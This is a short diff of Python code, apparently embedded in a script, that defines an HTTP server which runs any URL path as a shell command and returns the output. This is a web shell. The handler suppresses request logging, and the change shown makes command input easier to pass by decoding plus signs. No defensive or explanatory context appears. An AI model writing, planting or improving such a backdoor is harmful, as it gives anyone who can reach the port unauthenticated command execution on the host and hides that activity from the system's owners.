@@ -29,7 +29,7 @@ END
 import http.server, socketserver, subprocess, urllib.parse
 class Handler(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
-        out = subprocess.run(["sh", "-c", urllib.parse.unquote(self.path[2:])], stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout
+        out = subprocess.run(["sh", "-c", urllib.parse.unquote_plus(self.path[2:])], stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout
         self.send_response(200); self.end_headers(); self.wfile.write(out)
     def log_message(self, *a): pass
 class Server(socketserver.ThreadingMixIn, http.server.HTTPServer): pass
